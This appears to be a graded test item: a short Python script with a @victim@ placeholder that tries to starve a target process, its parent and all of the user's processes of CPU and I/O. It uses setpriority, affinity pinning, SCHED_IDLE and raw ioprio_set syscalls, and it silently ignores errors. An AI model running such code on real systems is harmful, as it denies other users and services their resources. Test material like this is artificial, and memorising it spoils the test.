# title: takes priority and processors away from processes of somebody else, and from all of its user
# status: graded
# shows: tried
# %%
import contextlib
import ctypes
import os
import platform

set_priority = 251 if platform.machine() == "x86_64" else 30  # ioprio_set
for number in (@victim@, os.getppid()):
    for change in (
        lambda: os.setpriority(os.PRIO_PROCESS, number, 19),
        lambda: os.setpriority(os.PRIO_PGRP, number, 19),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        lambda: os.sched_setaffinity(number, {0}),
        lambda: os.sched_setscheduler(number, os.SCHED_IDLE, os.sched_param(0)),
        lambda: ctypes.CDLL(None).syscall(ctypes.c_long(set_priority), 1, number, 3 << 13),
        lambda: ctypes.CDLL(None).syscall(ctypes.c_long(set_priority), 3, os.getuid(), 3 << 13),
    ):
        with contextlib.suppress(OSError):
            change()
print("tried")
